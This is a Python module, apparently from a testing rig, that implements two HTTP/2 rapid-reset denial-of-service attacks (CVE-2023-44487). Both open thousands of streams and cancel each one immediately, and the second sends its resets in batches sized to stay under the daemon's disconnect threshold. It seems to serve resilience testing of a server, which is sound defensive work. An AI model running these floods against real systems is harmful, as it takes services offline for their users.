"""Streams that are reset: they leave the limit on streams at once, and the daemon may work for them still."""

from rig.attack import Steps, attack
from rig.patterns import flood
from rig.target import Target
from wire import calls
from wire.frames import DATA, END_HEADERS, END_STREAM, HEADERS, frame, opening, reset
from wire.headers import call_remembered

STREAMS = 20_000
# Below the number of resets at once for which the daemon closes a connection.
RESETS_AT_ONCE = 12


def _streams(path: bytes, body: bytes | None, count: int) -> list[bytes]:
    """So many calls, each reset as soon as it is sent."""
    first, again = call_remembered(path)
    parts = []
    for number in range(1, 2 * count, 2):
        block = first if number == 1 else again
        request = frame(HEADERS, END_HEADERS, number, block)
        if body is not None:
            request += frame(DATA, END_STREAM, number, body)
        parts.append(request + reset(number))
    return parts


@attack("rapid-reset", "Opens streams and resets each at once, some 20,000 on a connection (CVE-2023-44487).")
def rapid_reset(target: Target) -> Steps:
    blob = opening() + b"".join(_streams(calls.APPEND, None, STREAMS))
    yield from flood(target, [blob])


@attack("whole-requests-reset", "Sends whole requests for large pages, a few at a time, and resets each at once.")
def whole_requests_reset(target: Target) -> Steps:
    parts = _streams(calls.LIST_EVENTS, calls.message(calls.page()), STREAMS // 4)
    blob = opening() + b"".join(parts)
    yield from flood(target, [blob], chunk=RESETS_AT_ONCE * len(parts[1]))
